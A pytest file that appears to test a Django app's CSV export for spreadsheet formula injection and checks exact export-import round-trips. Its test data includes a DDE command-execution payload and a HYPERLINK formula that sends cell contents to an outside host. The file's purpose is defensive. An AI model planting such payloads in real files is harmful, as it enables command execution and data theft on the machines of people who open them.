"""The record as a CSV file: nothing in it runs in a spreadsheet, and nothing of it is lost."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from forms_on_page import forms_of
from hypothesis import given, settings
from hypothesis import strategies as st

from onward import formats
from onward.record import Entry, check
from onward_app.accounts.models import User
from onward_app.entries import actions, queries

pytestmark = [
    pytest.mark.django_db(databases=["default", "keys"]),
    pytest.mark.usefixtures("static_files_as_served"),
]
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"open")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
]
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?([eE][+-]?\d+)?", re.ASCII)
DAY = "2026-05-19"


def exported(client: Client) -> str:
    return client.get("/takeout/record.csv").content.decode()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run a cell; a number is none of these."""
    return cell.startswith(SIGNS) and not NUMBER.fullmatch(cell)


def entry(kind: str, text: str) -> Entry:
    name, note = ("", text) if kind == "note" else (text, text)
    return check(DAY, kind, name, "4" if kind in ("issue", "goal") else "", note)


@pytest.mark.parametrize("kind", ["note", "issue", "goal", "practice", "event", "behaviour"])
def test_no_cell_of_an_own_word_runs(kind: str, owner: User, owner_client: Client) -> None:
    rows = [entry(kind, text) for text in FORMULAS]
    actions.keep(person=owner.pk, rows=rows)
    text = exported(owner_client)
    assert not [cell for cell in cells(text) if runs(cell)]
    assert formats.read(text.encode()).people["me"] == rows


def test_a_number_stays_a_number(owner: User, owner_client: Client) -> None:
    numbers = ["-1.5", "+2", "-3", "1e5", "-1,5"]
    rows = [check(DAY, "note", "", "", text) for text in numbers]
    rows.append(check(DAY, "checkin", "mood", "0.1", ""))
    actions.keep(person=owner.pk, rows=rows)
    found = cells(exported(owner_client))
    assert set(numbers) <= set(found)
    assert "0.1" in found


def test_a_form_without_a_cell_that_runs_is_not_touched(owner: User, owner_client: Client) -> None:
    words = ["a = b", "it's", "'quoted'", "1 + 1", "e@x.org"]
    actions.keep(person=owner.pk, rows=[check(DAY, "note", "", "", text) for text in words])
    assert set(words) <= set(cells(exported(owner_client)))


ANY = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30)
START = st.sampled_from(["", *SIGNS, "'", "''", '"', ",", "\ufeff", "-1.5", "'="])
WORDS = st.builds(str.__add__, START, ANY)
NAMES = WORDS.map(str.strip).filter(bool)
WHEN = st.sampled_from([DAY, "2026-05-20T21:30", "2026-05-21T21:30+02:00"])
ENTRIES = st.one_of(
    st.builds(lambda w, v: check(w, "checkin", "mood", repr(v), ""), WHEN, st.floats(0, 10)),
    st.builds(lambda w, n, v: check(w, "issue", n, repr(v), ""), WHEN, NAMES, st.floats(0, 10)),
    st.builds(lambda w, n, t: check(w, "practice", n, "", t), WHEN, NAMES, WORDS),
    st.builds(lambda w, n, t: check(w, "event", n, "3", t), WHEN, NAMES, WORDS),
    st.builds(lambda w, t: check(w, "note", "", "", t), WHEN, WORDS),
)


def order(entries: list[Entry]) -> list[tuple[str, str, str, str, str]]:
    return sorted((e.when, e.kind, e.name, repr(e.value), e.note) for e in entries)


def there_and_back(rows: list[Entry], one: tuple[User, Client], other: tuple[User, Client]) -> None:
    """What one person takes out, another brings in: the same record, to the last digit."""
    for user, _client in (one, other):
        for kept, _rows in queries.opened(user.pk):
            kept.delete()
    actions.keep(person=one[0].pk, rows=rows)
    text = exported(one[1])
    assert not [cell for cell in cells(text) if runs(cell)]
    file = SimpleUploadedFile("record.csv", text.encode())
    waiting = other[1].post("/takeout/", {"file": file})["Location"]
    form = next(f for f in forms_of(other[1].get(waiting).content.decode()) if not f.action)
    other[1].post(waiting, {**form.fields, "do": "take"})
    record = queries.record(other[0].pk)
    assert record is not None
    assert order(list(record)) == order(rows)
    other[1].post(f"{waiting}undo")


@pytest.mark.parametrize("many", [25, pytest.param(500, marks=pytest.mark.whole)])
def test_a_record_comes_back_exactly(
    many: int, owner: User, owner_client: Client, stranger: User, stranger_client: Client
) -> None:
    @settings(max_examples=many)
    @given(st.lists(ENTRIES, min_size=1, max_size=6))
    def each(rows: list[Entry]) -> None:
        there_and_back(rows, (owner, owner_client), (stranger, stranger_client))

    each()
